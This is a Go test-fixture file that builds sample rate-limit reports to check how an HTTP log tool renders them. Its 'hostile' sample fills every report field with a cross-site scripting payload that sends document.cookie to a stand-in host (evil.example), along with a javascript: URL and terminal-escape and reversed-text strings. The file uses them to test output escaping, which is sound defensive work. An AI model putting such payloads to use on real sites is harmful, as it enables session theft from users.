// Package sample makes up reports: for tests of how they look, and for people who change that.
package sample

import (
	"fmt"
	"time"

	"github.com/httplimit/httplimit/cmd/httplimit/internal/report"
	"github.com/httplimit/httplimit/limiter"
)

// Hostile is what clients send who want to become part of the page.
const Hostile = `"><script>fetch('//evil.example/'+document.cookie)</script><img src=//evil.example/x onerror=alert(1)>`

// All returns every sample by its name.
func All() map[string]report.Data {
	return map[string]report.Data{
		"day":        day(),
		"norefusals": made(900, 20, 600).data(limiter.PerMinute(5000)),
		"oneclient":  made(0, 1, 300).data(limiter.PerMinute(10)),
		"nopeople":   made(0, 45, 300).data(limiter.PerMinute(30)),
		"leftout":    leftOut(),
		"minute":     minute(),
		"manyrules":  manyRules(),
		"hostile":    hostile(),
		"nothing":    {Policy: "policy.json", Input: report.Input{Files: []string{"-"}, Format: "combined"}},
	}
}

func day() report.Data {
	d := made(4200, 180, 24*60).data(limiter.PerMinute(30), limiter.Per(200, 15*time.Minute))
	d.Input.Lines, d.Input.Bad = d.Input.Lines+17, 17
	d.Input.FirstBad =
		`access.log:812: no closing quote in the request: 203.0.113.7 - - [02/Mar/2026:09:11:04 +0000] "GET /`
	d.Input.Warnings = []string{
		"The log's times have no fractions of a second: windows under 10 s are estimates.",
		"412 lines were out of order by up to 3 s, and have been put in order.",
	}
	d.Rules[1].When = "GET /search, GET /suggest"
	d.Rules[1].Notes = []string{"A log does not tell a client's plan: everybody has the limit 200/15m."}
	return d
}

func leftOut() report.Data {
	d := made(300, 10, 300).data(limiter.PerMinute(20))
	d.Rules = append(d.Rules, report.Rule{
		Name: "export", Key: "apikey:X-API-Key | ip", Limit: limiter.PerHour(20), When: "/export/",
		LeftOut: "The log does not hold the header X-API-Key. Log it, or name its column with -map.",
	})
	return d
}

func minute() report.Data {
	d := made(12, 3, 1).data(limiter.PerSecond(4))
	d.Input.Warnings = []string{
		"Only 15 clients: your clients are probably your proxy. Log the address that it forwards.",
		"Every line has a time within one minute.",
	}
	return d
}

func manyRules() report.Data {
	t := made(260, 12, 200)
	limits := make([]limiter.Limit, 50)
	for i := range limits {
		limits[i] = limiter.PerMinute(int64(5 * (i + 1)))
	}
	d := t.data(limits...)
	for i := range d.Rules {
		d.Rules[i].Name = fmt.Sprintf("%s-%02d", d.Rules[i].Name, i+1)
	}
	return d
}

func hostile() report.Data {
	d := made(250, 8, 120).data(limiter.PerMinute(8))
	d.Policy, d.Input.Files = Hostile, []string{Hostile}
	d.Input.FirstBad, d.Input.Format = Hostile, "nginx:'"+Hostile+"'"
	d.Input.Warnings = []string{Hostile, "\u202etxet desrever\x1b[31m"}
	d.Input.Bots[0].Why = Hostile
	r := &d.Rules[0]
	r.Name, r.Key, r.When, r.Notes = Hostile, "header:"+Hostile, Hostile, []string{Hostile}
	for i := range r.MostRefused {
		c := &r.MostRefused[i]
		c.Key, c.Agent, c.Why, c.Paths = Hostile, Hostile, Hostile, []string{"/" + Hostile, "javascript:alert(1)"}
	}
	for i := range r.Heat.Rows {
		r.Heat.Rows[i].Key = Hostile
	}
	return d
}
